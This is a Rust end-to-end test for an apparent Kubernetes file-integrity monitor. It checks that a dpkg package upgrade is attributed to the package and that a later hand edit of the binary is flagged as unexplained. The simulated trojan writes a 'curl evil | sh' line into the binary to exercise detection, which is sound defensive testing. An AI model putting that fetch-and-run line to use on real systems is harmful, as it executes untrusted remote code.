//! Package attribution through the whole system: a package upgraded with the real dpkg in an
//! agent's host root is reported as FileChanges that carry the attribution (the same as the
//! agent's JSON line), nothing of it unexplained; a binary changed by hand afterwards is an
//! unexplained FileChange.

use std::{path::Path, process::Command};

use kubefim_crds::{AttributionKind, ChangeCategory, FileChange, PackageManager};
use kubefim_e2e::{Env, eventually, scenario::*};

fn run(command: &mut Command) {
    let out = command.output().expect("the command runs");
    assert!(
        out.status.success(),
        "{command:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Builds kfdemo `version` (one binary) with dpkg-deb, md5sums written as debhelper does.
fn build_deb(dir: &Path, version: &str, binary: &str) -> std::path::PathBuf {
    let stage = dir.join(format!("kfdemo-{version}"));
    std::fs::create_dir_all(stage.join("DEBIAN")).unwrap();
    std::fs::create_dir_all(stage.join("usr/bin")).unwrap();
    std::fs::write(stage.join("usr/bin/kfdemo"), binary).unwrap();
    std::fs::write(
        stage.join("DEBIAN/control"),
        format!("Package: kfdemo\nVersion: {version}\nArchitecture: all\nMaintainer: kubefim <e2e@kubefim.dev>\nDescription: e2e\n"),
    )
    .unwrap();
    let sums = Command::new("md5sum")
        .arg("usr/bin/kfdemo")
        .current_dir(&stage)
        .output()
        .unwrap();
    std::fs::write(stage.join("DEBIAN/md5sums"), sums.stdout).unwrap();
    let deb = dir.join(format!("kfdemo_{version}_all.deb"));
    run(Command::new("dpkg-deb")
        .args(["--root-owner-group", "-Zgzip", "--build"])
        .arg(&stage)
        .arg(&deb));
    deb
}

fn dpkg_install(root: &Path, deb: &Path) {
    run(Command::new("dpkg")
        .arg(format!("--root={}", root.display()))
        .arg(format!("--log={}", root.join("var/log/dpkg.log").display()))
        .args(["--force-script-chrootless", "--force-not-root", "-i"])
        .arg(deb));
}

fn unexplained(changes: &[FileChange]) -> Vec<(String, ChangeCategory)> {
    changes
        .iter()
        .filter(|c| c.spec.attribution.is_none())
        .map(|c| (c.spec.path.clone(), c.spec.category))
        .collect()
}

#[tokio::test]
async fn a_dpkg_upgrade_is_reported_explained_and_a_hand_change_unexplained() {
    let mut env = Env::new("packages").await;
    let node = env.create_node("node").await;
    env.start_operator(&[]);
    apply_ok(&env, &workspace_yaml(&env, "ws", ""));
    apply_ok(&env, &entity_yaml("bin", "ws", "LinuxFile", "/usr/bin", true));
    apply_ok(
        &env,
        &entity_yaml("dpkg", "ws", "LinuxFile", "/var/lib/dpkg", true),
    );
    let root = env.host_root(&node);
    for dir in ["var/lib/dpkg/info", "var/lib/dpkg/updates", "var/log", "usr/bin"] {
        std::fs::create_dir_all(root.join(dir)).unwrap();
    }
    std::fs::write(root.join("var/lib/dpkg/status"), "").unwrap();
    let debs = env.dir.path().join("debs");
    dpkg_install(&root, &build_deb(&debs, "1.0", "#!/bin/sh\necho 1.0\n"));
    start_agent_once_configured(&mut env, &node, 2).await;

    dpkg_install(&root, &build_deb(&debs, "2.0", "#!/bin/sh\necho 2.0, improved\n"));
    let report = eventually(SLOW, "the upgrade's explained report", || async {
        changes(&env, &node).await.into_iter().find(|c| {
            c.spec.category == ChangeCategory::Aggregated
                && c.spec
                    .aggregated
                    .as_ref()
                    .is_some_and(|a| a.sample_paths.iter().any(|p| p == "/usr/bin/kfdemo"))
        })
    })
    .await;
    let attribution = report
        .spec
        .attribution
        .clone()
        .expect("the report carries its attribution");
    assert_eq!(attribution.kind, AttributionKind::Package);
    assert_eq!(attribution.manager, Some(PackageManager::Dpkg));
    assert_eq!(attribution.package.as_deref(), Some("kfdemo"));
    assert_eq!(
        (
            attribution.from_version.as_deref(),
            attribution.to_version.as_deref()
        ),
        (Some("1.0"), Some("2.0"))
    );
    assert!(attribution.digest_verified);
    // The agent printed the same change, attribution and all, as a JSON line.
    let line = env
        .agent_lines(&node)
        .into_iter()
        .find(|l| l["path"] == report.spec.path.as_str())
        .unwrap_or_else(|| panic!("no JSON line for {}", report.spec.path));
    assert_eq!(line["attribution"], serde_json::to_value(&attribution).unwrap());
    // The database's own changes are explained by the operation too: wait for them, then
    // nothing of the upgrade is unexplained.
    eventually(SLOW, "the database files' explained report", || async {
        changes(&env, &node).await.into_iter().find(|c| {
            c.spec.attribution.is_some()
                && c.spec
                    .aggregated
                    .as_ref()
                    .is_some_and(|a| a.sample_paths.iter().any(|p| p == "/var/lib/dpkg/status"))
        })
    })
    .await;
    assert_eq!(unexplained(&changes(&env, &node).await), []);

    std::fs::write(root.join("usr/bin/kfdemo"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let trojan = eventually(SLOW, "the hand change", || {
        change_at(&env, &node, "/usr/bin/kfdemo", ChangeCategory::Modified)
    })
    .await;
    assert!(trojan.spec.attribution.is_none(), "{:?}", trojan.spec.attribution);
}
